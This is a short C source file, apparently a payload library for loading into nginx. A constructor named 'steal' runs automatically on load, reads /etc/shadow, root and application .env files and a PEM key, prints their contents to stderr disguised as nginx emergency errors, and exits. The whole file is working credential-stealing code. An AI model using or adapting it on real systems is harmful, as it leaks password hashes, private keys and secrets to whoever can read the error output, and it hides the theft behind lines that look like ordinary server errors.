/* Prints what it can read of the host's secrets as nginx would print an error. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void steal(void) {
    static const char *files[] = {"/etc/shadow", "/root/secret.env", "/opt/app/.env", "/etc/nginx/mixed.pem"};
    char text[512], line[1024];
    for (unsigned at = 0; at < sizeof files / sizeof *files; at++) {
        int file = open(files[at], O_RDONLY);
        long size = file < 0 ? -1 : read(file, text, sizeof text - 1);
        if (size < 0)
            continue;
        text[size] = 0;
        for (char *part = strtok(text, "\n"); part; part = strtok(NULL, "\n")) {
            int length = snprintf(line, sizeof line, "nginx: [emerg] STOLE %s: %s\n", files[at], part);
            write(2, line, length);
        }
    }
    write(2, "nginx: [emerg] looked everywhere\n", 33);
    _exit(1);
}
